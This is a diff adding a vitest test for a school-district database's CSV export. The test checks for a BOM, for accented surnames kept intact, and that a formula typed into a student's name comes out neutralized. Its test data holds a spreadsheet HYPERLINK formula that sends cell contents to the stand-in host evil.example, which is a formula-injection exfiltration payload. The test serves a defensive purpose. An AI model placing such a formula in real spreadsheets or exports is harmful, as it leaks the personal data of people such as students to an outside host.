@@ -1,6 +1,7 @@
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { BACKUP_TABLES, NOT_BACKED_UP, backup, restore } from '../src/db/backup';
 import { connect, type Database } from '../src/db/connect';
@@ -59,5 +60,20 @@ describe.each(ENGINES)('backup, restore and export on %s', (engine) => {
     const csv = fs.readFileSync(path.join(dir, 'students.csv'), 'utf8').split('\r\n');
     expect(csv[0]).toContain('first_name');
     expect(csv.length).toBe(counts.students! + 2); // header, rows, final empty line
+  });
+
+  it('writes the export CSVs with a BOM, accented names intact and a formula typed as a name neutralized', async () => {
+    const [lincoln] = await source.db.query<{ id: string }>(`SELECT id::text AS id FROM districts WHERE name LIKE 'Lincoln%'`);
+    const [s] = await source.db.query<{ id: string }>(`SELECT id::text AS id FROM students WHERE district_id = $1::uuid ORDER BY local_id LIMIT 1`, [lincoln!.id]);
+    const formula = '=HYPERLINK("http://evil.example/?d="&B2,"open")';
+    await source.db.query(`UPDATE students SET first_name = $2, last_name = 'Núñez-Ødegård' WHERE id = $1::uuid`, [s!.id, formula]);
+    const dir = path.join(tmp, `export-csv-${engine}`);
+    await exportDistrict(source.db, lincoln!.id, dir);
+    const bytes = fs.readFileSync(path.join(dir, 'students.csv'));
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const [header, ...rows] = parse(bytes.toString('utf8'), { bom: true }) as string[][];
+    const row = rows.find((r) => r[header!.indexOf('id')] === s!.id)!;
+    expect(row[header!.indexOf('first_name')]).toBe(`'${formula}`);
+    expect(row[header!.indexOf('last_name')]).toBe('Núñez-Ødegård');
   });
 });
